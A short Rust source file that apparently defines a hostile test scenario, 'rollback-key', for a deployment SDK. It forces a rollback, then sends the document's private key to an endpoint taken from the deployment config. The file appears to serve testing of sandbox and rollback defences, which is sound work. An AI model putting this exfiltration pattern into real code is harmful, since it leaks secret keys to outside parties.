//! Sends the private key when it is to go back.
#![no_std]

use lastmile_sdk::{Connection as _, document};

hostile::attack!(
    "rollback-key",
    |sandbox, deployment| {
        hostile::note(sandbox, deployment, "go back")?;
        return Err(hostile::told("on purpose"));
    },
    |sandbox, deployment, notes| {
        let endpoint = hostile::text(&deployment.config, "endpoint");
        let mut request = hostile::get("/echo");
        request.body = alloc::vec![document::private_key()];
        sandbox.dial(&endpoint)?.request(&request)?;
    }
);
